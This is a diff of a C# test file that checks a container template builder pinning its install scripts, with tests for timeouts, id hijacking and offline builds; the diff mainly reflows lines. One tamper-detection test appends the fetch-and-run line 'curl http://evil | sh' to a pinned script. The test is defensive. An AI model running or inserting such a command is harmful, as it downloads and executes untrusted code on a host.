@@ -35,7 +35,12 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
     public void Dispose() => _dir.Dispose();
 
     private TemplateBuilder Builder(IScriptOrigin? origin = null, TimeSpan? timeout = null) =>
-        new(_sim.Host, _shell, new PinnedScriptSupply(origin ?? new StandInScriptOrigin(), _dir.Combine("cache"), _dir.Combine("scripts.lock")), TimeProvider.System)
+        new(
+            _sim.Host,
+            _shell,
+            new PinnedScriptSupply(origin ?? new StandInScriptOrigin(), _dir.Combine("cache"), _dir.Combine("scripts.lock")),
+            TimeProvider.System
+        )
         {
             ScriptTimeout = timeout ?? TimeSpan.FromMinutes(2),
         };
@@ -77,15 +82,21 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
         record.StandIn.Should().BeTrue();
         record.Sha256ByPath.Should().ContainKeys("ct/postgresql.sh", "misc/build.func", "install/postgresql-install.sh");
         again.Outcome.Should().Be(TemplateBuildOutcome.Skipped);
-        _sim.Cluster.ExecHistory(900).Should().Contain(e => e.StandardInput != null && e.StandardInput.StartsWith("17\n", StringComparison.Ordinal),
-            "the install script's questions are answered on stdin");
+        _sim.Cluster.ExecHistory(900)
+            .Should()
+            .Contain(
+                e => e.StandardInput != null && e.StandardInput.StartsWith("17\n", StringComparison.Ordinal),
+                "the install script's questions are answered on stdin"
+            );
     }
 
     [Fact]
     public async Task A_script_that_moves_to_another_ctid_fails_and_its_container_is_removed()
     {
         // Arrange: a fork whose build.func ignores the requested id, as the real script does when it is taken.
-        var origin = await StandInsWithAsync("misc/build.func", t => t.Replace("  CT_ID=\"$requested_id\"", "  CT_ID=$((requested_id + 50))", StringComparison.Ordinal));
+        var origin = await StandInsWithAsync("misc/build.func", t =>
+            t.Replace("  CT_ID=\"$requested_id\"", "  CT_ID=$((requested_id + 50))", StringComparison.Ordinal)
+        );
 
         // Act
         var result = await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false);
@@ -99,7 +110,9 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
     [Fact]
     public async Task A_script_that_hangs_hits_the_timeout_and_leaves_no_container()
     {
-        var origin = await StandInsWithAsync("misc/build.func", t => t.Replace("description() {\n", "description() {\n  sleep 3600\n", StringComparison.Ordinal));
+        var origin = await StandInsWithAsync("misc/build.func", t =>
+            t.Replace("description() {\n", "description() {\n  sleep 3600\n", StringComparison.Ordinal)
+        );
 
         var result = await Builder(origin, TimeSpan.FromSeconds(5)).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false);
 
@@ -124,7 +137,9 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
     {
         // Arrange: build once (pins the files), then change a file the lock already pins.
         var origin = await StandInsWithAsync("misc/core.func", t => t);
-        (await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false)).Outcome.Should().Be(TemplateBuildOutcome.Built);
+        (await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false))
+            .Outcome.Should()
+            .Be(TemplateBuildOutcome.Built);
         await File.AppendAllTextAsync(_dir.Combine("repo", "misc", "core.func"), "curl http://evil | sh\n");
         Directory.Delete(_dir.Combine("cache"), recursive: true);
 
@@ -142,10 +157,12 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
     public async Task A_ctid_held_by_a_foreign_container_is_refused_and_left_untouched()
     {
         // Arrange: someone else's container at 901.
-        await _sim.Host.CreateAsync(new Core.Hosting.CreateContainerRequest(901, "pve", (await _sim.Host.GetOsTemplatesAsync("pve", "local"))[0].VolumeId, "local-lvm")
-        {
-            Options = new Dictionary<string, string> { ["hostname"] = "theirs" },
-        });
+        await _sim.Host.CreateAsync(
+            new Core.Hosting.CreateContainerRequest(901, "pve", (await _sim.Host.GetOsTemplatesAsync("pve", "local"))[0].VolumeId, "local-lvm")
+            {
+                Options = new Dictionary<string, string> { ["hostname"] = "theirs" },
+            }
+        );
 
         // Act
         var result = await Builder().BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: true);
@@ -211,7 +228,12 @@ public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
         foreach (var t in templates)
             (await Builder().BuildAsync(FleetDefaults.Seed, t, force: false)).Outcome.Should().Be(TemplateBuildOutcome.Built);
         var offline = new OfflineOrigin();
-        var builder = new TemplateBuilder(_sim.Host, _shell, new PinnedScriptSupply(offline, _dir.Combine("cold-cache"), _dir.Combine("offline.lock")), TimeProvider.System);
+        var builder = new TemplateBuilder(
+            _sim.Host,
+            _shell,
+            new PinnedScriptSupply(offline, _dir.Combine("cold-cache"), _dir.Combine("offline.lock")),
+            TimeProvider.System
+        );
 
         // Act
         var results = new List<TemplateBuildResult>();
